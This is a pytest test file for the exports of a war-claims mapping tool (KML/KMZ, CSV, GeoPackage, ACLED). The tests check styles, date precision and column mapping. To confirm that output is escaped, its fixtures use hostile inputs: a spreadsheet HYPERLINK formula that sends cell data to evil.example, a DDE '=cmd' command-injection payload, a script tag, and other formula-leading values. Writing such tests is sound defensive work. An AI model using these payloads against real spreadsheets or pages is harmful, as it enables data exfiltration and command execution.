"""What users of Google Earth, spreadsheets and ACLED pipelines get: KML/KMZ read with an XML
parser and GDAL, CSV bytes and cells, month precision, the ACLED columns and their mapping."""
from __future__ import annotations

import csv
import re
import shutil
import struct
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from geo.model import Actor, Article, Claim, Event, Mention, Place, Resolution, Side, Status
from geo.publish.acled import COLUMNS, EVENT_MAP, GEO_PRECISION, TIME_PRECISION
from geo.publish.export import export_claims, feature_collection
from geo.publish.tabular import FORMULA_START
from tests.test_export import sample_fc

ROOT = Path(__file__).resolve().parents[1]
K = "{http://www.opengis.net/kml/2.2}"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1) <script>alert(1)</script> & ]]>'


def hostile_fc() -> dict:
    """The sample claims plus one whose text fields try formulas, markup and CDATA ends."""
    fc = sample_fc()
    a = Article(id="+evil.txt", text="z" * 300, title="@SUM(1+1)", url="https://example.org/a?b=1&c=2",
                published="2025-11-20", outlet="-Outlet")
    p = Place("geonames:9", "Siversk", 48.86476, 38.09683, country="UA", admin1="Donetsk Oblast")
    m = Mention("Siversk", 3, 10, "siversk")
    c = Claim(article=a, resolution=Resolution(m, p, 0.9, "\tmain name"), event=Event.CAPTURED,
              actor=Actor.UKRAINE, claimant="=cmd|' /C calc'!A0", claimant_side=Side.UKRAINE,
              status=Status.CLAIMED, event_date="2025-11-19", date_precision="day", quote=HOSTILE,
              quote_start=0, quote_end=20, confidence=0.8)
    k = Place("geonames:3", "Kupiansk", 49.71, 37.61, country="UA", admin1="Kharkiv Oblast")
    held = Claim(article=a, resolution=Resolution(Mention("Kupiansk", 40, 48, "kupiansk"), k, 0.9,
                                                  "main name"),
                 event=Event.HELD, actor=Actor.UKRAINE, claimant="General Staff",
                 claimant_side=Side.UKRAINE, status=Status.CLAIMED, quote="Kupiansk holds.",
                 quote_start=40, quote_end=55, confidence=0.7)
    extra = feature_collection([c, held])
    fc["features"] += extra["features"]
    return fc


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    d = tmp_path_factory.mktemp("exports")
    fc = hostile_fc()
    for name in ("claims.kml", "claims.kmz", "claims.csv", "claims.gpkg"):
        export_claims(fc, d / name)
    export_claims(fc, d / "plain.csv", bom=False)
    export_claims(fc, d / "acled.csv", fmt="acled")
    return d, fc


# --- KML / KMZ --------------------------------------------------------------------------------

def _doc(path: Path) -> ET.Element:
    if path.suffix == ".kmz":
        with zipfile.ZipFile(path) as z:
            assert z.namelist()[0] == "doc.kml"  # Google Earth reads the first .kml entry
            return ET.fromstring(z.read("doc.kml"))
    return ET.parse(path).getroot()


@pytest.mark.parametrize("name", ["claims.kml", "claims.kmz"])
def test_kml_placemarks_read_in_google_earth_terms(out, name):
    d, fc = out
    root = _doc(d / name)
    marks = root.findall(f".//{K}Placemark")
    assert len(marks) == len(fc["features"]) == 9
    by_id = {m.get("id"): m for m in marks}
    for f in fc["features"]:
        p = f["properties"]
        m = by_id[p["claim_id"]]
        name_text = m.findtext(f"{K}name")
        assert name_text == (p["place"] if p["event"] == "mention"
                             else f"{p['place']} — {p['event']}")
        when = m.findtext(f"{K}TimeStamp/{K}when")
        assert when == p["event_date"]  # ISO: day, month ("2025-11") or year ("2025")
        desc = m.findtext(f"{K}description")
        assert f"Status</th><td>{p['status']}" in desc
        if p["claimant"] and not p["claimant"].startswith("="):
            assert p["claimant"] in desc
        lon, lat = (float(x) for x in m.findtext(f".//{K}coordinates").split(","))
        assert (lon, lat) == tuple(f["geometry"]["coordinates"])
    zal = by_id[next(f["id"] for f in fc["features"] if f["properties"]["place"] == "Zalizné")]
    assert zal.findtext(f"{K}TimeStamp/{K}when") == "2025-11"
    assert "2025-11 (month precision)" in zal.findtext(f"{K}description")
    # the hostile quote is text in the balloon, escaped once more for HTML: never markup
    evil = by_id[next(f["id"] for f in fc["features"] if f["properties"]["article"] == "+evil.txt")]
    desc = evil.findtext(f"{K}description")
    assert "<script>" not in desc and "&lt;script&gt;" in desc
    assert "<a href=\"https://example.org/a?b=1&amp;c=2\">" in desc
    assert evil.findtext(f".//{K}Data[@name='quote']/{K}value") == HOSTILE  # verbatim data


@pytest.mark.parametrize("name", ["claims.kml", "claims.kmz"])
def test_kml_styles_are_shared_and_folders_follow_status(out, name):
    d, _fc = out
    root = _doc(d / name)
    styles = {s.get("id"): s for s in root.iter(f"{K}Style")}
    urls = [m.findtext(f"{K}styleUrl") for m in root.iter(f"{K}Placemark")]
    assert all(u.startswith("#") and u[1:] in styles for u in urls)
    assert len(styles) == len(set(urls)) < len(urls)  # both held-by-Ukraine claims share one
    assert urls.count("#held-ukraine-faded") == 2
    assert "captured-russia-hollow" in styles and "captured-independent-solid" in styles
    folders = [f.findtext(f"{K}name") for f in root.iter(f"{K}Folder")]
    assert folders == ["Confirmed", "Assessed", "Reported", "Claimed", "Unverified", "Disputed",
                       "Mentions, no claim"]
    for folder in root.iter(f"{K}Folder"):
        statuses = {m.findtext(f".//{K}Data[@name='status']/{K}value")
                    for m in folder.iter(f"{K}Placemark")}
        if folder.findtext(f"{K}name") != "Mentions, no claim":
            assert statuses == {folder.findtext(f"{K}name").lower()}
    icons = [s.findtext(f".//{K}Icon/{K}href") for s in styles.values()]
    if name.endswith(".kmz"):
        with zipfile.ZipFile(d / name) as z:
            for href in icons:
                png = z.read(href)  # every icon a style names is inside the KMZ
                assert png[:8] == b"\x89PNG\r\n\x1a\n"
                assert struct.unpack(">II", png[16:24]) == (32, 32)
    else:
        assert icons == [None] * len(icons)  # a plain .kml links no image (offline)


@pytest.mark.skipif(not shutil.which("ogrinfo"), reason="no ogrinfo")
@pytest.mark.parametrize("name", ["claims.kml", "claims.kmz"])
def test_gdal_opens_the_kml(out, name):
    d, fc = out
    run = subprocess.run(["ogrinfo", "-ro", "-al", "-q", str(d / name)], capture_output=True,
                         text=True, timeout=60, check=False)
    assert run.returncode == 0 and "ERROR" not in run.stderr, run.stderr
    assert run.stdout.count("OGRFeature(") == len(fc["features"])
    assert "event_date (String) = 2025-11" in run.stdout


# --- CSV ---------------------------------------------------------------------------------------

def _rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_bom_and_no_bom(out):
    d, _ = out
    raw = (d / "claims.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbflon,lat,claim_id,")
    assert "Zalizné".encode() in raw  # UTF-8, not a code page
    plain = (d / "plain.csv").read_bytes()
    assert plain.startswith(b"lon,lat,claim_id,") and plain == raw[3:]
    assert raw.count(b"\r\n") >= 10  # RFC 4180 line ends


def test_csv_has_no_formula_cell(out):
    d, fc = out
    rows = _rows(d / "claims.csv")
    assert len(rows) == len(fc["features"])
    numeric = {"lon", "lat", "confidence", "sources", "quote_start", "quote_end",
               "mention_start", "mention_end"}
    for row in rows:
        for k, v in row.items():
            if k not in numeric:
                assert not v.startswith(FORMULA_START), (k, v)
    evil = next(r for r in rows if r["article"] == "'+evil.txt")
    assert evil["quote"] == "'" + HOSTILE and evil["claimant"] == "'=cmd|' /C calc'!A0"
    assert evil["outlet"] == "'-Outlet" and evil["title"] == "'@SUM(1+1)"
    assert evil["resolution"] == "'\tmain name"
    assert float(evil["lon"]) == 38.09683  # numbers stay numbers


def test_csv_header_is_the_documented_one(out):
    d, _ = out
    header = (d / "plain.csv").read_bytes().decode("utf-8").split("\r\n", 1)[0]
    doc = (ROOT / "docs" / "schema.md").read_text(encoding="utf-8")
    m = re.search(r"<!-- csv-header -->\n```\n(.*?)\n```", doc, re.DOTALL)
    assert m, "docs/schema.md lacks the CSV header block"
    assert header == m.group(1).replace("\n", "")


def test_month_precision_kept_in_csv_and_gpkg(out):
    d, _ = out
    zal = next(r for r in _rows(d / "claims.csv") if r["place"] == "Zalizné")
    assert (zal["event_date"], zal["date_precision"], zal["event_start"], zal["event_end"]) == (
        "2025-11", "month", "2025-11-01", "2025-11-30")
    kyiv = next(r for r in _rows(d / "claims.csv") if r["place"] == "Kyiv")
    assert (kyiv["event_date"], kyiv["date_precision"], kyiv["event_end"]) == (
        "2025", "year", "2025-12-31")
    import pyogrio

    df = pyogrio.read_dataframe(d / "claims.gpkg", layer="claims")
    row = df[df["place"] == "Zalizné"].iloc[0]
    assert row["event_date"] == "2025-11" and row["date_precision"] == "month"


# --- ACLED -------------------------------------------------------------------------------------

def test_acled_columns_and_mapping(out):
    d, fc = out
    with open(d / "acled.csv", encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames) == COLUMNS
        rows = list(reader)
    claims = [f["properties"] for f in fc["features"] if f["properties"]["event"] != "mention"]
    assert len(rows) == len(claims) == 8  # a bare mention is not an event
    by_tag = {re.search(r"claim_id: (\w+)", r["tags"])[1]: r for r in rows}
    for p in claims:
        r = by_tag[p["claim_id"]]
        assert r["event_type"] == EVENT_MAP[p["event"]][0]
        assert int(r["geo_precision"]) == GEO_PRECISION[p["precision"]]
        assert f"status: {p['status']}" in r["tags"]
        assert f"claimant_side: {p['claimant_side'] or 'none'}" in r["tags"]
        assert p["status"] in r["notes"] and p["article"].lstrip("+") in r["notes"]
        assert r["location"] == p["place"] and r["country"] == "Ukraine"
        assert abs(float(r["latitude"]) - f_lat(fc, p)) < 1e-4
    pok = [r for r in rows if r["location"] == "Pokrovsk"]
    ru = next(r for r in pok if "claimant: Russian Defence Ministry" in r["tags"])
    # a foreign state's forces taking a place: ACLED's "Non-state actor overtakes territory"
    assert (ru["event_type"], ru["sub_event_type"]) == ("Battles",
                                                        "Non-state actor overtakes territory")
    assert ru["actor1"].startswith("Military Forces of Russia")
    assert ru["actor2"].startswith("Military Forces of Ukraine")
    assert (ru["event_date"], ru["year"], ru["time_precision"]) == ("2025-11-12", "2025", "1")
    # Ukraine's forces taking a Ukrainian place: "Government regains territory"
    siv = next(r for r in rows if r["location"] == "Siversk")
    assert siv["sub_event_type"] == "Government regains territory"
    zal = next(r for r in rows if r["location"] == "Zalizné")
    assert (zal["event_date"], zal["time_precision"], zal["geo_precision"]) == (
        "2025-11-15", str(TIME_PRECISION["month"]), "2")
    assert "date_precision: month" in zal["tags"]
    kyiv = next(r for r in rows if r["location"] == "Kyiv")
    assert kyiv["event_type"] == "Explosions/Remote violence" and kyiv["actor2"] == ""
    region = next(r for r in rows if r["location"] == "Donetsk Oblast")
    assert region["geo_precision"] == "3"
    assert all(r["timestamp"].isdigit() for r in rows)


def f_lat(fc: dict, p: dict) -> float:
    return next(f["geometry"]["coordinates"][1] for f in fc["features"]
                if f["properties"]["claim_id"] == p["claim_id"])


def test_acled_doc_lists_the_code_mapping():
    """docs/acled.md shows the mapping the code applies (one row per Frontline event)."""
    doc = (ROOT / "docs" / "acled.md").read_text(encoding="utf-8")
    for event, (etype, sub) in EVENT_MAP.items():
        assert re.search(rf"\| `{event}` \| {re.escape(etype)} \| {re.escape(sub)}", doc), event
    for prec, code in GEO_PRECISION.items():
        assert f"| `{prec}` | {code} |" in doc
    for prec, code in TIME_PRECISION.items():
        assert f"| `{prec}` | {code} |" in doc
